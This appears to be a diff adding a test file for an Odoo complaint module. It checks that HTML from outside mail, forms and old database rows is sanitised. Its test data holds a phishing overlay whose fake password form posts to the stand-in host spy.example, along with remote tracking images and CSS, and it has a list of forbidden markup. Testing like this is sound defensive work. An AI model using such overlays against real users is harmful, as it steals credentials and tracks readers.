@@ -1,0 +1,165 @@
+import runpy
+from pathlib import Path
+
+from odoo.tests import tagged
+from odoo.tools import SQL, mute_logger
+
+from ...models.outside_html import OutsideHtml
+from ..common import ComplaintCommon
+
+SCRIPT = Path(__file__).parents[2] / "migrations/19.0.1.3.0/post-outside_words.py"
+OVERLAY = (
+    '<div class="modal d-block" style="position:fixed;top:0;left:0;width:100vw;'
+    'height:100vh;background:#fff url(https://spy.example/c)">'
+    '<h1>Your session ended</h1><form action="https://spy.example/in">'
+    '<input name="password"></form>'
+    '<img src="https://spy.example/1.gif" srcset="//spy.example/2.gif 2x">'
+    "<p>My laptop broke.</p></div>"
+)
+MAIL = """\
+From: Klant <klant@elders.example>
+To: testklachten@test.example
+Subject: =?utf-8?q?Laptop?=
+Message-ID: <outside-{number}@elders.example>
+{extra}MIME-Version: 1.0
+Content-Type: text/html; charset="utf-8"
+
+<html><head><style>@import url(https://spy.example/s.css);</style>
+<base href="https://spy.example/"></head><body background="//spy.example/b">
+{body}</body></html>
+"""
+BAD = ("position", "modal", "<form", "<input", "<img", "srcset", "<style", "url(")
+
+
+@tagged("post_install", "-at_install", "klachten")
+class TestOutsideWords(ComplaintCommon):
+    """Words from outside cover nothing and call nobody, wherever they stand."""
+
+    def _assert_harmless(self, words, says="My laptop broke."):
+        words = str(words or "")
+        self.assertIn(says, words)
+        for bad in BAD:
+            self.assertNotIn(bad, words)
+        self.assertIn("[picture from spy.example not loaded]", words)
+
+    @mute_logger("odoo.addons.mail.models.mail_thread", "py.warnings")
+    def _receive(self, number=1, extra="", body=OVERLAY):
+        raw = MAIL.format(number=number, extra=extra, body=body).encode()
+        known = self.env["helpdesk.ticket"].search([])
+        self.env["mail.thread"].message_process("helpdesk.ticket", raw)
+        return self.env["helpdesk.ticket"].search([]) - known
+
+    def test_mail_that_comes_in_is_harmless_as_statement_and_in_the_chatter(self):
+        case = self._receive()
+        self._assert_harmless(case.statement)
+        messages = case.message_ids.filtered(lambda m: m.message_type == "email")
+        self.assertTrue(messages)
+        for message in messages:
+            self._assert_harmless(message.body)
+        original = case.attachment_ids.filtered(lambda a: a.name.endswith(".eml"))
+        self.assertIn(b"position:fixed", original.raw, "kept as it came in")
+
+    def test_answer_to_a_case_is_harmless(self):
+        case = self._receive()
+        letter = case.letter_ids[:1]
+        code = letter.message_code or letter.mail_id.message_id
+        self.assertFalse(self._receive(2, f"In-Reply-To: {code}\n"))
+        answers = case.message_ids.filtered(lambda m: "outside-2" in m.message_id)
+        self.assertTrue(answers)
+        self._assert_harmless(answers.body)
+
+    def test_every_field_with_words_from_outside_is_cleaned(self):
+        """Also those that a later model adds: no other HTML is stored by ours."""
+        apart = {
+            # made by us of parts that were cleaned
+            ("complaint.letter", "body"),
+            ("complaint.procedure.version", "differences"),
+            # the organisation's own documents
+            ("complaint.procedure.version", "definition"),
+            ("complaint.procedure.version", "who_may"),
+            ("complaint.procedure.version", "relations"),
+        }
+        for model in self.env.registry.values():
+            for field in model._fields.values():
+                if field.type != "html" or not field.store or model._abstract:
+                    continue
+                if field._modules != ("klachten_module",):
+                    continue
+                with self.subTest(field=f"{field}"):
+                    if (model._name, field.name) not in apart:
+                        self.assertIsInstance(field, OutsideHtml)
+
+    def test_words_by_form_and_rpc_are_harmless(self):
+        case = self._create_complaint(description=OVERLAY)
+        self._assert_harmless(case.statement)
+        self._walk_to(case, "acknowledgement")
+        holder = case.user_id
+        case.with_user(holder).write({"description": OVERLAY, "answer": OVERLAY})
+        self._assert_harmless(case.description)
+        self._assert_harmless(case.answer)
+        note = self.env["complaint.note"].create(
+            {"ticket_id": case.id, "body": OVERLAY}
+        )
+        self._assert_harmless(note.body)
+        note.invalidate_recordset()
+        self._assert_harmless(note.body)
+
+    def test_plain_tickets_keep_what_the_host_keeps(self):
+        words = '<p><img src="https://pictures.example/1.png">Hi</p>'
+        plain = self._create_plain(description=words)
+        self.assertIn("<img", plain.description)
+        plain.description = words + "<p>more</p>"
+        self.assertIn("<img", plain.description)
+
+    def test_letters_and_pages_load_nothing_from_elsewhere(self):
+        case = self._create_complaint(description=OVERLAY)
+        case.sudo().answer = OVERLAY
+        self._walk_to(case, "customer")
+        letter = self._answer_letter(case)
+        self._assert_harmless(letter.answer)
+        self.assertNotIn('src="https://spy', letter.body)
+        self.assertNotIn("position", letter.body)
+        self.assertNotIn('src="https://spy', letter.mail_id.body_html)
+
+    def test_what_stood_there_before_is_cleaned(self):
+        case = self._receive()
+        self._walk_to(case, "acknowledgement")
+        note = self.env["complaint.note"].create({"ticket_id": case.id, "body": "<p/>"})
+        message = case.message_ids.filtered(lambda m: m.message_type == "email")[:1]
+        letter = case.letter_ids[:1]
+        plain = self._create_plain()
+        frame = letter.body
+        self.env.flush_all()
+        for record, name in (
+            (case, "statement"),
+            (case, "description"),
+            (note, "body"),
+            (message, "body"),
+            (letter, "body"),
+            (plain, "description"),
+        ):
+            self.env.cr.execute(
+                SQL(
+                    "UPDATE %s SET %s = %s WHERE id = %s",
+                    SQL.identifier(record._table),
+                    SQL.identifier(name),
+                    OVERLAY,
+                    record.id,
+                )
+            )
+        others = case.letter_ids - letter
+        kept = [other.body for other in others]
+        for _time in range(2):
+            runpy.run_path(str(SCRIPT))["migrate"](self.env.cr, "19.0.1.2.0")
+            self.env.invalidate_all()
+            for words in (
+                case.statement,
+                case.description,
+                note.body,
+                message.body,
+                letter.body,
+            ):
+                self._assert_harmless(words)
+            self.assertIn("position:fixed", plain.description, "not ours")
+        self.assertEqual([other.body for other in others], kept)
+        self.assertTrue(frame)
